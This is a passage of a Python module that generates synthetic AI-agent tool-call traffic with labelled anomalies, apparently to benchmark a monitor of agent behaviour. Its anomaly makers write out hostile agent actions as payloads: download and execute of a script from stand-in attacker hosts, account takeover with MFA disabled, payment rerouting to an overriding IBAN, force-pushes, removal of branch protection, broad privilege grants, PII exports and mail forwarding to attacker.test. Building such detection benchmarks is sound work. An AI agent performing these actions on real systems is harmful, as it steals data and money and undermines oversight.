"""Synthetic agent traffic with labelled anomalies, for offline replay, benchmarks and the demo.

    python -m ratchet.sandbox.traffic --out events.jsonl [--agents 6] [--runs 300] [--warmup 100]
                                 [--anomaly-rate 0.05] [--seed 7] [--project demo]

Six agent archetypes (:func:`archetypes`) each run a small probabilistic workflow of tool calls with
realistic JSON payloads: optional fields, loops of variable length, id-keyed maps, arrays of varying
length, run-level priorities (mostly normal, some high, rare critical), a ``cost`` per call, and rare
legitimate branches (an escalation path in 2–5 % of runs), and rarer legitimate fields that
recur (:data:`RARE_RATE`: about one run in 200 per variant, so some first appear after warm-up).
Agents of the second block of six (``support-2`` … ``assistant-2``, and every other block after)
never set a priority above normal, so their chains never see a high-priority call. Ratchet keeps
one Markov chain per (project, agent, service) and its nodes are payload *shapes*, so every
workflow makes several consecutive calls to one service, and two different steps of one service
never share a shape.

After ``warmup_runs`` runs per agent, a run is made anomalous with probability ``anomaly_rate``, by
one of :data:`ANOMALY_KINDS`, at varied strength, so that no kind is detected by construction:
a loop is 8–45 extra repeats, on both sides of the loop guardrail's default limit (20 back to
back), and anomalies land in runs of whatever priority the run has. The injected events (or, for
a skipped or swapped step, the first out-of-order event of that service) carry ``label: true``;
every event of a normal run carries ``label: false``. A run is anomalous when any of its events is labelled; :func:`iter_runs` gives
the runs with their anomaly kind.

Events follow the ingest contract (``models.events``) plus the offline fields ``project_id`` and
``label``. Everything is drawn from ``random.Random`` generators seeded from ``seed`` and the agent
id, so the same arguments give the same events, and an agent's runs do not depend on how many other
agents there are. Each run has a start time and increasing event times; the stream is all runs
merged by time, so runs of different agents, and several runs of one agent, are open at once while
the events of each run stay in order.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import copy
import dataclasses
import heapq
import math
import os
import sys
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from random import Random
from typing import Any

import orjson

from models.errors import ConfigError

__all__ = [
    "ANOMALY_KINDS",
    "NORMAL_ONLY_NOTE",
    "RARE_RATE",
    "ArchetypeInfo",
    "Run",
    "TrafficConfig",
    "archetypes",
    "generate",
    "iter_events",
    "iter_runs",
    "main",
]

Payload = dict[str, Any]

#: Extra repeats of a loop-abuse anomaly (inclusive): more than any normal run repeats a step
#: (at most 8 back to back), and on both sides of the loop guardrail's ``max_repeats = 20``.
_LOOP_EXTRA = (8, 45)

#: Anomaly kinds and what each injects.
ANOMALY_KINDS: dict[str, str] = {
    "novel_shape": "an unseen call (new action or new payload shape, e.g. payments.create with "
    "beneficiary_override) inserted mid-run in a service the agent already uses",
    "exfiltration": "a web.post of run data to an outside host right after a data-reading call",
    "skipped_step": "a mandatory step dropped (e.g. repo.commit without repo.test); the next call "
    "of that service is labelled",
    "order_swap": "a mandatory step swapped with the next call of its service; the call moved "
    "earlier is labelled",
    "loop_abuse": f"a legitimately repeating step repeated {_LOOP_EXTRA[0]}-{_LOOP_EXTRA[1]} extra "
    "times (the loop guardrail's default limit, 20 back to back, falls inside: about a third "
    "of these loops stay under it); the extras are labelled",
    "shape_drift": "an existing call's payload gains a new nested object (debug, auth context, "
    "proxy, callback); that call is labelled",
}

#: 2026-01-01T00:00:00Z: synthetic time starts here unless told otherwise.
DEFAULT_START_TS = 1_767_225_600.0


# --- public records -----------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class ArchetypeInfo:
    """What one agent archetype does (for docs, the demo and tests)."""

    name: str
    description: str
    services: tuple[str, ...]
    actions: tuple[str, ...]
    rare_branches: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Run:
    """One execution of an agent's workflow: its events in order and its ground truth."""

    agent_id: str
    archetype: str
    run_id: str
    index: int
    anomaly: str | None
    events: tuple[dict[str, Any], ...]
    #: ``mixed`` (high/critical runs now and then) or ``normal`` (the agent never sets a
    #: priority above normal: see :data:`NORMAL_ONLY_NOTE`).
    priorities: str = "mixed"

    @property
    def anomalous(self) -> bool:
        """True when any event of the run is labelled anomalous."""
        return any(e["label"] for e in self.events)


@dataclass(frozen=True, slots=True)
class TrafficConfig:
    """Generator arguments, validated once."""

    agents: int = 6
    runs_per_agent: int = 300
    warmup_runs: int = 100
    anomaly_rate: float = 0.05
    seed: int = 7
    project_id: str = "demo"
    start_ts: float = DEFAULT_START_TS

    def __post_init__(self) -> None:
        if self.agents < 1:
            raise ConfigError(f"agents must be at least 1, got {self.agents}")
        if self.runs_per_agent < 0 or self.warmup_runs < 0:
            raise ConfigError("runs_per_agent and warmup_runs must not be negative")
        if not 0.0 <= self.anomaly_rate <= 1.0:
            raise ConfigError(f"anomaly_rate must be within [0, 1], got {self.anomaly_rate}")
        if not math.isfinite(self.start_ts) or self.start_ts < 0:
            raise ConfigError(f"start_ts must be a finite epoch time, got {self.start_ts}")
        if not self.project_id:
            raise ConfigError("project_id must not be empty")


# --- small value makers -------------------------------------------------------------------------

# fmt: off
_WORDS = (
    "refund", "invoice", "latency", "timeout", "upgrade", "billing", "export", "login", "error",
    "quota", "report", "migration", "config", "cache", "deploy", "policy", "account", "shipping",
    "discount", "renewal", "webhook", "schema", "retry", "region", "pricing", "outage",
)
# fmt: on
_NAMES = ("ana", "ben", "chen", "dara", "eli", "fatima", "gus", "hana", "ivan", "jo", "kim", "lea")
_DOMAINS = ("example.com", "example.org", "acme.test", "globex.test")
_DROP_HOSTS = ("paste.example.net", "files.exfil.test", "webhook.attacker.test", "203.0.113.7")


def _words(rng: Random, lo: int, hi: int) -> str:
    return " ".join(rng.choices(_WORDS, k=rng.randint(lo, hi)))


def _rid(rng: Random, prefix: str) -> str:
    return f"{prefix}_{rng.randrange(10_000, 1_000_000)}"


def _hex(rng: Random, chars: int) -> str:
    return f"{rng.getrandbits(4 * chars):0{chars}x}"


def _email(rng: Random) -> str:
    return f"{rng.choice(_NAMES)}.{rng.randrange(100)}@{rng.choice(_DOMAINS)}"


def _cost(rng: Random, base: float) -> float:
    return round(base * (0.5 + rng.random()), 6)


def _count(rng: Random, lo: int, hi: int, p_more: float) -> int:
    """lo, then one more with probability p_more each time, up to hi (a capped geometric)."""
    n = lo
    while n < hi and rng.random() < p_more:
        n += 1
    return n


def _priority(rng: Random, high: float, critical: float, low: float = 0.0) -> str:
    x = rng.random()
    if x < critical:
        return "critical"
    if x < critical + high:
        return "high"
    if x < critical + high + low:
        return "low"
    return "normal"


def _maybe(rng: Random, payload: Payload, p: float, key: str, value: Callable[[], Any]) -> None:
    if rng.random() < p:
        payload[key] = value()


def _service(action: str) -> str:
    return action.partition(".")[0]


@dataclass(slots=True)
class _Call:
    action: str
    payload: Payload
    cost: float
    priority: str = "normal"
    #: The workflow needs this step before the next call of the same service.
    mandatory: bool = False
    #: A step that legitimately loops (search, read, poll).
    repeatable: bool = False


# --- archetype: support -------------------------------------------------------------------------


def _plan_support(rng: Random) -> list[_Call]:
    out: list[_Call] = []
    cust = _rid(rng, "cus")
    lookup: Payload = {"customer_id": cust} if rng.random() < 0.7 else {"email": _email(rng)}
    _maybe(rng, lookup, 0.3, "include", lambda: rng.sample(("orders", "plan", "notes"), 2))
    out.append(_Call("crm.lookup", lookup, _cost(rng, 0.0004), mandatory=True))
    if rng.random() < 0.6:
        hist = {"customer_id": cust, "limit": rng.choice((10, 20, 50))}
        out.append(_Call("crm.history", hist, _cost(rng, 0.0004)))
    prio = _priority(rng, high=0.08, critical=0.01)
    ticket = _rid(rng, "tkt")
    read: Payload = {"ticket_id": ticket, "include_thread": rng.random() < 0.6}
    _maybe(rng, read, 0.25, "fields", lambda: ["subject", "body", "sla"][: rng.randint(1, 3)])
    out.append(_Call("tickets.read", read, _cost(rng, 0.0003), prio, mandatory=True))
    if rng.random() < 0.2:
        att = {
            "ticket_id": ticket,
            "attachment_ids": [_rid(rng, "att") for _ in range(rng.randint(1, 3))],
        }
        out.append(_Call("tickets.attachments", att, _cost(rng, 0.001), prio))
    for _ in range(_count(rng, 1, 6, 0.45)):
        q: Payload = {"query": _words(rng, 2, 6), "top_k": rng.choice((3, 5, 10))}
        _maybe(
            rng, q, 0.3, "filters", lambda: {"product": rng.choice(("api", "app")), "locale": "en"}
        )
        out.append(_Call("kb.search", q, _cost(rng, 0.002), repeatable=True))
    for _ in range(rng.choice((0, 0, 1, 1, 2))):
        art = {"article_id": _rid(rng, "kb"), "format": rng.choice(("markdown", "html"))}
        out.append(_Call("kb.article", art, _cost(rng, 0.0005)))
    if rng.random() < 0.03:  # rare legitimate branch: hand over to tier 2
        esc = {
            "ticket_id": ticket,
            "tier": 2,
            "reason": _words(rng, 3, 8),
            "summary": _words(rng, 8, 20),
        }
        out.append(_Call("tickets.escalate", esc, _cost(rng, 0.001), "high"))
    reply: Payload = {"ticket_id": ticket, "body": _words(rng, 8, 30), "public": True}
    _maybe(rng, reply, 0.2, "cc", lambda: [_email(rng) for _ in range(rng.randint(1, 2))])
    _maybe(rng, reply, 0.15, "macro_id", lambda: _rid(rng, "mac"))
    out.append(_Call("tickets.reply", reply, _cost(rng, 0.004), prio))
    if rng.random() < 0.3:
        tags = {"ticket_id": ticket, "tags": rng.sample(_WORDS, rng.randint(1, 3))}
        out.append(_Call("tickets.tag", tags, _cost(rng, 0.0002), prio))
    status: Payload = {"ticket_id": ticket, "status": rng.choice(("solved", "solved", "pending"))}
    _maybe(rng, status, 0.2, "note", lambda: _words(rng, 3, 10))
    out.append(_Call("tickets.status", status, _cost(rng, 0.0002), prio))
    return out


def _novel_support_export(rng: Random) -> _Call:
    body = {
        "segment": "all",
        "fields": ["email", "phone", "address", "card_last4"],
        "format": "csv",
    }
    return _Call("crm.export", body, _cost(rng, 0.01))


def _novel_support_takeover(rng: Random) -> _Call:
    changes = {"email": f"support-{_hex(rng, 6)}@attacker.test", "mfa": {"enabled": False}}
    return _Call(
        "crm.update", {"customer_id": _rid(rng, "cus"), "changes": changes}, _cost(rng, 0.001)
    )


# --- archetype: coding --------------------------------------------------------------------------

_REPOS = ("acme/api", "acme/web", "acme/billing", "acme/infra")
_DIRS = ("src", "src/core", "src/api", "tests", "lib", "docs")
_FILES = ("models.py", "handlers.py", "utils.py", "config.py", "client.py", "schema.py")


def _path(rng: Random) -> str:
    return f"{rng.choice(_DIRS)}/{rng.choice(_FILES)}"


def _write(rng: Random) -> _Call:
    body: Payload = {"path": _path(rng), "patch": _words(rng, 5, 25), "mode": "edit"}
    _maybe(rng, body, 0.1, "create", lambda: True)
    return _Call("repo.write", body, _cost(rng, 0.006), repeatable=True)


def _test(rng: Random, paths: list[str], *, mandatory: bool) -> _Call:
    body: Payload = {"suite": rng.choice(("unit", "unit", "integration")), "paths": paths}
    _maybe(rng, body, 0.3, "fail_fast", lambda: True)
    return _Call("repo.test", body, _cost(rng, 0.01), mandatory=mandatory)


def _plan_coding(rng: Random) -> list[_Call]:
    branch = f"fix/{rng.choice(_WORDS)}-{rng.randrange(1000)}"
    checkout: Payload = {"repo": rng.choice(_REPOS), "branch": branch, "base": "main"}
    _maybe(rng, checkout, 0.3, "depth", lambda: rng.choice((1, 50)))
    out = [_Call("repo.checkout", checkout, _cost(rng, 0.001), mandatory=True)]
    for _ in range(rng.randint(2, 8)):
        read: Payload = {"path": _path(rng), "ref": branch}
        _maybe(
            rng,
            read,
            0.3,
            "lines",
            lambda: {"start": rng.randint(1, 200), "end": rng.randint(201, 600)},
        )
        out.append(_Call("repo.read", read, _cost(rng, 0.002), repeatable=True))
        if rng.random() < 0.15:
            search = {"pattern": rng.choice(_WORDS), "glob": "*.py", "regex": rng.random() < 0.3}
            out.append(_Call("repo.search", search, _cost(rng, 0.002)))
    out.extend(_write(rng) for _ in range(rng.randint(1, 3)))
    paths = [_path(rng) for _ in range(rng.randint(1, 4))]
    for _ in range(_count(rng, 0, 2, 0.25)):  # failing tests: fix and run again
        out.append(_test(rng, paths, mandatory=False))
        out.append(_write(rng))
    out.append(_test(rng, paths, mandatory=True))
    commit = {"message": _words(rng, 3, 9), "paths": paths, "signoff": rng.random() < 0.5}
    out.append(_Call("repo.commit", commit, _cost(rng, 0.001)))
    if rng.random() < 0.5:
        out.append(_Call("repo.push", {"remote": "origin", "branch": branch}, _cost(rng, 0.001)))
    prio = _priority(rng, high=0.1, critical=0.01)
    trigger: Payload = {"pipeline": rng.choice(("ci", "ci", "release")), "ref": branch}
    _maybe(rng, trigger, 0.3, "variables", lambda: {"PYTHON": rng.choice(("3.11", "3.12"))})
    out.append(_Call("ci.trigger", trigger, _cost(rng, 0.02), prio, mandatory=True))
    pipeline_run = _rid(rng, "pl")
    for _ in range(_count(rng, 1, 5, 0.5)):
        poll = {"pipeline_run": pipeline_run, "wait_s": rng.choice((10, 30))}
        out.append(_Call("ci.status", poll, _cost(rng, 0.0002), prio, repeatable=True))
    if rng.random() < 0.12:  # the pipeline failed: read the logs, rarely revert
        logs = {"pipeline_run": pipeline_run, "job": rng.choice(("test", "lint")), "tail": 200}
        out.append(_Call("ci.logs", logs, _cost(rng, 0.001), prio))
        if rng.random() < 0.3:
            revert = {"commit": _hex(rng, 40), "reason": _words(rng, 3, 8)}
            out.append(_Call("repo.revert", revert, _cost(rng, 0.001), "high"))
    return out


def _novel_coding_force_push(rng: Random) -> _Call:
    body = {"remote": "origin", "branch": "main", "force": True, "no_verify": True}
    return _Call("repo.push", body, _cost(rng, 0.001))


def _novel_coding_protection(rng: Random) -> _Call:
    body = {
        "repo": rng.choice(_REPOS),
        "branch_protection": {"required_reviews": 0, "enforce_admins": False},
    }
    return _Call("repo.settings", body, _cost(rng, 0.001))


# --- archetype: finance -------------------------------------------------------------------------


def _amount(value: float, currency: str) -> Payload:
    return {"value": value, "currency": currency}


def _plan_finance(rng: Random) -> list[_Call]:
    out: list[_Call] = []
    vendor = _rid(rng, "ven")
    pages = rng.choice((1, 1, 1, 2, 2, 3))
    by_vendor = rng.random() < 0.4
    for page in range(1, pages + 1):
        lst: Payload = {"status": "open", "page": page, "page_size": 50}
        if by_vendor:
            lst["vendor_id"] = vendor
        out.append(
            _Call("invoices.list", lst, _cost(rng, 0.0005), mandatory=pages == 1, repeatable=True)
        )
    invoice_ids = [_rid(rng, "inv") for _ in range(rng.randint(1, 4))]
    for inv in invoice_ids:
        get: Payload = {"invoice_id": inv}
        _maybe(rng, get, 0.4, "expand", lambda: ["lines", "vendor"][: rng.randint(1, 2)])
        out.append(_Call("invoices.get", get, _cost(rng, 0.0005), repeatable=True))
    approve: Payload = {"invoice_ids": invoice_ids, "approver": "ap-agent"}
    _maybe(rng, approve, 0.2, "note", lambda: _words(rng, 3, 8))
    out.append(_Call("invoices.approve", approve, _cost(rng, 0.0005)))
    prio = _priority(rng, high=0.12, critical=0.03)
    value, currency = (
        round(rng.uniform(50.0, 25_000.0), 2),
        rng.choice(("EUR", "USD", "USD", "GBP")),
    )
    method = rng.choice(("ach", "sepa", "wire"))
    quote = {"amount": _amount(value, currency), "method": method, "invoice_ids": list(invoice_ids)}
    out.append(_Call("payments.quote", quote, _cost(rng, 0.001), prio, mandatory=True))
    create: Payload = {
        "quote_id": _rid(rng, "quo"),
        "amount": _amount(value, currency),
        "method": method,
        "idempotency_key": _hex(rng, 32),
    }
    _maybe(rng, create, 0.3, "memo", lambda: _words(rng, 2, 6))
    _maybe(
        rng, create, 0.1, "scheduled_for", lambda: f"2026-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}"
    )
    out.append(_Call("payments.create", create, _cost(rng, 0.005), prio))
    payment = _rid(rng, "pay")
    if rng.random() < 0.03:  # rare legitimate branch: treasury holds the payment for review
        hold = {"payment_id": payment, "reason": _words(rng, 3, 8), "queue": "treasury"}
        out.append(_Call("payments.hold", hold, _cost(rng, 0.001), "high"))
        return out
    out.append(
        _Call("payments.confirm", {"payment_id": payment, "otp_verified": True}, 0.001, prio)
    )
    entries = [
        {
            "account": rng.choice(("2000-ap", "1000-cash", "6100-fees")),
            "debit": 0.0,
            "credit": value,
        }
        for _ in range(rng.randint(2, 4))
    ]
    post = {"reference": payment, "period": f"2026-{rng.randint(1, 12):02d}", "entries": entries}
    out.append(_Call("ledger.post", post, _cost(rng, 0.001)))
    return out


def _novel_finance_override(rng: Random) -> _Call:
    body: Payload = {
        "quote_id": _rid(rng, "quo"),
        "amount": _amount(round(rng.uniform(5e3, 5e4), 2), "EUR"),
        "method": "wire",
        "idempotency_key": _hex(rng, 32),
        "beneficiary_override": {
            "iban": f"LT{rng.randrange(10**18):018d}",
            "name": "Consulting Ltd",
        },
    }
    return _Call("payments.create", body, _cost(rng, 0.005))


def _novel_finance_payee(rng: Random) -> _Call:
    bank = {
        "iban": f"LT{rng.randrange(10**18):018d}",
        "bic": "REVOLT21",
        "holder": "Consulting Ltd",
    }
    return _Call("payments.payee_update", {"vendor_id": _rid(rng, "ven"), "bank": bank}, 0.001)


# --- archetype: research ------------------------------------------------------------------------

_SITES = ("docs.python.org", "arxiv.org", "en.wikipedia.org", "github.com", "news.example.com")


def _url(rng: Random) -> str:
    return f"https://{rng.choice(_SITES)}/{rng.choice(_WORDS)}/{rng.randrange(10_000)}"


def _plan_research(rng: Random) -> list[_Call]:
    out: list[_Call] = []
    prio = _priority(rng, high=0.03, critical=0.0, low=0.25)  # batch research runs at low priority
    for rnd in range(rng.choice((1, 1, 2, 3))):
        search: Payload = {"query": _words(rng, 2, 7), "num": rng.choice((5, 10, 20))}
        _maybe(rng, search, 0.2, "site", lambda: rng.choice(_SITES))
        _maybe(rng, search, 0.2, "recency_days", lambda: rng.choice((7, 30, 365)))
        out.append(_Call("web.search", search, _cost(rng, 0.003), prio, mandatory=rnd == 0))
        for _ in range(_count(rng, 1, 5, 0.55)):
            fetch: Payload = {"url": _url(rng), "timeout_s": rng.choice((10, 30))}
            if rng.random() < 0.04:  # rare legitimate branch: a PDF, parsed page by page
                fetch["extract"] = {"pages": list(range(1, rng.randint(2, 12))), "tables": True}
            else:
                _maybe(rng, fetch, 0.3, "render_js", lambda: True)
            out.append(_Call("web.fetch", fetch, _cost(rng, 0.002), prio, repeatable=True))
    create: Payload = {"title": _words(rng, 2, 6), "tags": rng.sample(_WORDS, rng.randint(0, 3))}
    _maybe(rng, create, 0.3, "folder", lambda: rng.choice(("inbox", "projects", "reading")))
    out.append(_Call("notes.create", create, _cost(rng, 0.001), prio, mandatory=True))
    note = _rid(rng, "note")
    for _ in range(_count(rng, 1, 4, 0.5)):
        sources = [_url(rng) for _ in range(rng.randint(0, 3))]
        append = {"note_id": note, "text": _words(rng, 10, 40), "sources": sources}
        out.append(_Call("notes.append", append, _cost(rng, 0.004), prio, repeatable=True))
    if rng.random() < 0.3:
        link = {"note_id": note, "target_id": _rid(rng, "note")}
        out.append(_Call("notes.link", link, _cost(rng, 0.0002), prio))
    return out


def _novel_research_share(rng: Random) -> _Call:
    body = {"note_id": _rid(rng, "note"), "visibility": "public", "allow_edit": True}
    return _Call("notes.share", body, _cost(rng, 0.0002))


def _novel_research_download(rng: Random) -> _Call:
    body = {
        "url": f"https://{rng.choice(_DROP_HOSTS)}/x/{_hex(rng, 8)}.sh",
        "save_as": "/tmp/run.sh",
        "execute": True,
    }
    return _Call("web.download", body, _cost(rng, 0.002))


# --- archetype: data ----------------------------------------------------------------------------


def _order_row(rng: Random) -> Payload:
    return {
        "amount": round(rng.uniform(5, 900), 2),
        "status": rng.choice(("paid", "open")),
        "customer_id": _rid(rng, "cus"),
    }


def _customer_row(rng: Random) -> Payload:
    return {
        "name": rng.choice(_NAMES),
        "region": rng.choice(("eu", "us", "apac")),
        "tier": rng.randint(1, 3),
    }


def _sku_row(rng: Random) -> Payload:
    return {
        "price": round(rng.uniform(1, 300), 2),
        "stock": rng.randrange(500),
        "warehouse": rng.choice(("ams", "nyc")),
    }


_TABLES: dict[str, tuple[str, Callable[[Random], Payload]]] = {
    "orders": ("ord", _order_row),
    "customers": ("cus", _customer_row),
    "skus": ("sku", _sku_row),
}


def _rows(rng: Random, table: str, lo: int, hi: int) -> Payload:
    prefix, make = _TABLES[table]
    return {_rid(rng, prefix): make(rng) for _ in range(rng.randint(lo, hi))}


def _plan_data(rng: Random) -> list[_Call]:
    table = rng.choice(tuple(_TABLES))
    connect: Payload = {"database": "analytics", "read_only": True}
    _maybe(rng, connect, 0.3, "role", lambda: "analyst")
    out = [_Call("db.connect", connect, _cost(rng, 0.0002), mandatory=True)]
    sql = f"SELECT * FROM {table} WHERE updated_at > $1 LIMIT $2"
    if rng.random() < 0.04:  # rare legitimate branch: look at the plan of a slow query first
        out.append(_Call("db.explain", {"sql": sql, "analyze": False}, _cost(rng, 0.001)))
    for _ in range(_count(rng, 1, 4, 0.4)):
        rows = _rows(rng, table, 1, 12) if rng.random() > 0.03 else {}
        query: Payload = {
            "sql": sql,
            "params": ["2026-01-01", 100],
            "rows": rows,
            "row_count": len(rows),
        }
        _maybe(rng, query, 0.2, "timeout_ms", lambda: rng.choice((5_000, 30_000)))
        out.append(_Call("db.query", query, _cost(rng, 0.003), repeatable=True))
    if rng.random() < 0.3:
        upsert = {
            "table": f"{table}_daily",
            "records": _rows(rng, table, 1, 6),
            "on_conflict": "update",
        }
        out.append(_Call("db.upsert", upsert, _cost(rng, 0.002)))
    build: Payload = {"report": f"{table}-weekly", "dataset": _rows(rng, table, 2, 10)}
    _maybe(
        rng,
        build,
        0.5,
        "chart",
        lambda: {"kind": rng.choice(("bar", "line")), "x": "day", "y": "total"},
    )
    out.append(_Call("reports.build", build, _cost(rng, 0.008), mandatory=True))
    channel = rng.choice(("team", "team", "team", "exec"))
    publish = {
        "report_id": _rid(rng, "rep"),
        "channel": channel,
        "recipients": [_email(rng) for _ in range(rng.randint(1, 3))],
    }
    prio = _priority(rng, high=0.5 if channel == "exec" else 0.02, critical=0.01)
    out.append(_Call("reports.publish", publish, _cost(rng, 0.001), prio))
    return out


def _novel_data_grant(rng: Random) -> _Call:
    return _Call(
        "db.grant", {"role": f"svc_{_hex(rng, 4)}", "privileges": ["ALL"], "on": "*.*"}, 0.001
    )


def _novel_data_export(rng: Random) -> _Call:
    body = {
        "table": "customers",
        "destination": f"s3://{_hex(rng, 10)}/dump",
        "format": "parquet",
        "include_pii": True,
    }
    return _Call("db.export", body, _cost(rng, 0.01))


# --- archetype: assistant (high entropy) --------------------------------------------------------


def _dt(rng: Random) -> str:
    return f"2026-01-{rng.randint(1, 28):02d}T{rng.randint(7, 19):02d}:00:00Z"


def _thread(rng: Random) -> str:
    return f"{rng.randrange(10**9)}.{rng.randrange(10**6)}"


def _draft(rng: Random) -> Payload:
    to = [_email(rng) for _ in range(rng.randint(1, 3))]
    return {"to": to, "subject": _words(rng, 2, 5), "body": _words(rng, 10, 40)}


def _event(rng: Random) -> Payload:
    return {"title": _words(rng, 2, 5), "start": _dt(rng), "end": _dt(rng)}


def _changes(rng: Random) -> Payload:
    options = (("title", _words(rng, 1, 3)), ("start", _dt(rng)), ("location", "room 2"))
    return dict(rng.sample(options, rng.randint(1, 3)))


def _task(rng: Random) -> Payload:
    task: Payload = {"title": _words(rng, 2, 6)}
    _maybe(rng, task, 0.4, "due", lambda: _dt(rng))
    _maybe(rng, task, 0.4, "assignee", lambda: _email(rng))
    _maybe(rng, task, 0.4, "description", lambda: _words(rng, 5, 20))
    _maybe(rng, task, 0.3, "labels", lambda: rng.sample(_WORDS, rng.randint(1, 3)))
    return task


#: action -> (required fields, optional fields: each present with probability 0.4).
_ASSISTANT: dict[str, tuple[str, str]] = {
    "mail.search": ("query", "folder from since limit has_attachment labels"),
    "mail.read": ("message_id", "format mark_read include_headers"),
    "mail.draft": ("draft", "cc reply_to_id attachments"),
    "mail.send": ("draft_id", "send_at track_opens"),
    "calendar.list": ("range", "calendar_id query include_declined"),
    "calendar.create": ("event", "attendees location recurrence reminders conference"),
    "calendar.update": ("event_id changes", "notify"),
    "files.search": ("query", "mime_types owner modified_after limit"),
    "files.read": ("file_id", "byte_range export_format revision"),
    "files.write": ("file_id content", "mime_type keep_revision comment"),
    "chat.read": ("channel", "since limit thread_ts"),
    "chat.post": ("channel text", "thread_ts mentions blocks"),
    "tasks.list": ("project", "assignee status due_before"),
    "tasks.create": ("task", "notify"),
    "tasks.complete": ("task_id", "comment"),
}
#: field -> how its value is drawn (one maker per field name, shared by all actions).
_FIELDS: dict[str, Callable[[Random], Any]] = {
    "query": lambda r: _words(r, 1, 4),
    "folder": lambda r: r.choice(("inbox", "sent", "archive")),
    "from": _email,
    "since": _dt,
    "limit": lambda r: r.choice((10, 25, 50)),
    "has_attachment": lambda r: True,
    "labels": lambda r: r.sample(_WORDS, r.randint(1, 3)),
    "message_id": lambda r: _rid(r, "msg"),
    "format": lambda r: r.choice(("text", "html")),
    "mark_read": lambda r: r.random() < 0.5,
    "include_headers": lambda r: True,
    "draft": _draft,
    "cc": lambda r: [_email(r)],
    "reply_to_id": lambda r: _rid(r, "msg"),
    "attachments": lambda r: [{"name": f"{w}.pdf", "size": r.randrange(10**6)} for w in "ab"],
    "draft_id": lambda r: _rid(r, "drf"),
    "send_at": _dt,
    "track_opens": lambda r: False,
    "range": lambda r: {"start": _dt(r), "end": _dt(r)},
    "calendar_id": lambda r: "primary",
    "include_declined": lambda r: False,
    "event": _event,
    "attendees": lambda r: [_email(r) for _ in range(r.randint(1, 6))],
    "location": lambda r: r.choice(("room 4", "online")),
    "recurrence": lambda r: {"freq": r.choice(("weekly", "daily")), "count": r.randint(2, 10)},
    "reminders": lambda r: [{"minutes": m} for m in (10, 60)][: r.randint(1, 2)],
    "conference": lambda r: {"provider": r.choice(("meet", "zoom"))},
    "event_id": lambda r: _rid(r, "evt"),
    "changes": _changes,
    "notify": lambda r: r.random() < 0.5,
    "mime_types": lambda r: r.sample(("application/pdf", "text/csv", "text/plain"), 2),
    "owner": lambda r: "me",
    "modified_after": _dt,
    "file_id": lambda r: _rid(r, "fil"),
    "byte_range": lambda r: {"start": 0, "end": r.randrange(1, 10**5)},
    "export_format": lambda r: "txt",
    "revision": lambda r: r.randint(1, 30),
    "content": lambda r: _words(r, 10, 50),
    "mime_type": lambda r: "text/plain",
    "keep_revision": lambda r: True,
    "comment": lambda r: _words(r, 2, 6),
    "channel": lambda r: r.choice(("#general", "#team", "#ops")),
    "thread_ts": _thread,
    "text": lambda r: _words(r, 3, 20),
    "mentions": lambda r: r.sample(_NAMES, r.randint(1, 3)),
    "blocks": lambda r: [
        {"type": "section", "text": _words(r, 2, 8)} for _ in "ab"[: r.randint(1, 2)]
    ],
    "project": lambda r: r.choice(("q1-plan", "hiring", "launch")),
    "assignee": lambda r: "me",
    "status": lambda r: r.choice(("open", "done")),
    "due_before": _dt,
    "task": _task,
    "task_id": lambda r: _rid(r, "tsk"),
}
_ASSISTANT_FIELDS = {a: (req.split(), opt.split()) for a, (req, opt) in _ASSISTANT.items()}


def _by_service(actions: Iterable[str]) -> dict[str, tuple[str, ...]]:
    out: dict[str, tuple[str, ...]] = {}
    for action in actions:  # mail.send is never picked on its own: it follows mail.draft
        if action != "mail.send":
            out[_service(action)] = (*out.get(_service(action), ()), action)
    return out


_ASSISTANT_SERVICES = _by_service(_ASSISTANT)
_REPEATING = frozenset({"mail.search", "mail.read", "files.read", "chat.read", "calendar.list"})


def _assistant_call(rng: Random, action: str, prio: str) -> _Call:
    required, optional = _ASSISTANT_FIELDS[action]
    payload: Payload = {key: _FIELDS[key](rng) for key in required}
    for key in optional:
        if rng.random() < 0.4:
            payload[key] = _FIELDS[key](rng)
    mandatory, repeatable = action == "mail.draft", action in _REPEATING
    return _Call(action, payload, _cost(rng, 0.002), prio, mandatory, repeatable)


def _plan_assistant(rng: Random) -> list[_Call]:
    services = tuple(_ASSISTANT_SERVICES)
    prio = _priority(rng, high=0.05, critical=0.005, low=0.2)
    service = rng.choice(services)
    out: list[_Call] = []
    for _ in range(rng.randint(4, 14)):
        if rng.random() < 0.45:
            service = rng.choice(services)
        action = rng.choice(_ASSISTANT_SERVICES[service])
        out.append(_assistant_call(rng, action, prio))
        if action == "mail.draft":
            out.append(_assistant_call(rng, "mail.send", prio))
    return out


def _novel_assistant_share(rng: Random) -> _Call:
    body = {
        "file_id": _rid(rng, "fil"),
        "with": {"email": f"{_hex(rng, 6)}@attacker.test", "role": "owner"},
        "notify": False,
    }
    return _Call("files.share", body, _cost(rng, 0.001))


def _novel_assistant_forward(rng: Random) -> _Call:
    body = {"match": {"from": "*"}, "forward_to": f"{_hex(rng, 6)}@attacker.test", "archive": True}
    return _Call("mail.forward_rule", body, _cost(rng, 0.001))


# --- the archetype table ------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Archetype:
    info: ArchetypeInfo
    plan: Callable[[Random], list[_Call]]
    novel: tuple[Callable[[Random], _Call], ...]
    exfil_sources: frozenset[str]


def _info(name: str, description: str, actions: str, rare: tuple[str, ...]) -> ArchetypeInfo:
    acts = tuple(actions.split())
    services = tuple(dict.fromkeys(_service(a) for a in acts))
    return ArchetypeInfo(name, description, services, acts, rare)


_ARCHETYPES: tuple[_Archetype, ...] = (
    _Archetype(
        _info(
            "support",
            "customer support: look the customer up, read the ticket, search the knowledge base "
            "(1-6 times), reply, tag, set the status",
            "crm.lookup crm.history tickets.read tickets.attachments kb.search kb.article "
            "tickets.escalate tickets.reply tickets.tag tickets.status",
            ("tickets.escalate to tier 2 (3%, priority high)",),
        ),
        _plan_support,
        (_novel_support_export, _novel_support_takeover),
        frozenset({"crm", "tickets"}),
    ),
    _Archetype(
        _info(
            "coding",
            "coding agent: check out, read 2-8 files, write, run the tests (fix-and-rerun loops), "
            "commit, push, trigger CI and poll it",
            "repo.checkout repo.read repo.search repo.write repo.test repo.commit repo.push "
            "repo.revert ci.trigger ci.status ci.logs",
            ("ci.logs after a failed pipeline (12%)", "repo.revert after it (~4%, priority high)"),
        ),
        _plan_coding,
